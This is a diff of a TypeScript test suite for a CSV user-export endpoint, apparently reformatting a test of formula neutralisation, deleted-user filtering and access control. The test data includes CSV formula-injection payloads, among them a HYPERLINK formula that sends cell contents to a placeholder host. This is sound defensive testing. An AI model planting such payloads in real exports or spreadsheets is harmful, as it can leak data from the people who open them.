@@ -9,12 +9,21 @@ const t = useMassCreationApp();
 const { freshOrg, sqlite, get } = t;
 
 describe('CSV export and template', () => {
-  it('exports the organization\'s users with formula cells neutralised and odd values intact', async () => {
+  it("exports the organization's users with formula cells neutralised and odd values intact", async () => {
     const mine = await freshOrg();
     const theirs = await freshOrg();
     const tricky = [
-      '=1+2";=1+2', '+SUM(A1)', '-2+3', '@cmd', '\tTabbed', '\rReturn', '\nNewline', '\0Nul',
-      'a,=HYPERLINK("http://x?"&A1)', 'a;=HYPERLINK("http://x?"&A1)', 'Two\nLines, "quoted"',
+      '=1+2";=1+2',
+      '+SUM(A1)',
+      '-2+3',
+      '@cmd',
+      '\tTabbed',
+      '\rReturn',
+      '\nNewline',
+      '\0Nul',
+      'a,=HYPERLINK("http://x?"&A1)',
+      'a;=HYPERLINK("http://x?"&A1)',
+      'Two\nLines, "quoted"',
     ];
     const emails: string[] = [];
     for (const [i, name] of tricky.entries()) {
@@ -47,7 +56,9 @@ describe('CSV export and template', () => {
     sqlite().prepare("UPDATE users SET deleted_at = '2025-02-02T00:00:00Z' WHERE id = ?").run(report.id);
     const plain = parse((await get(admin.token, '/api/admin/users/export.csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
     expect(plain.map((r) => r.email)).not.toContain(report.email);
-    const all = parse((await get(admin.token, '/api/admin/users/export.csv?includeDeleted=true')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
+    const all = parse((await get(admin.token, '/api/admin/users/export.csv?includeDeleted=true')).body, { bom: true, columns: true }) as Array<
+      Record<string, string>
+    >;
     expect(all.find((r) => r.email === report.email)).toMatchObject({ deleted_at: '2025-02-02T00:00:00Z' });
     expect(all.every((r) => r.email!.endsWith(`@${domain}`))).toBe(true);
     expect((await get(null, '/api/admin/users/export.csv')).statusCode).toBe(401);
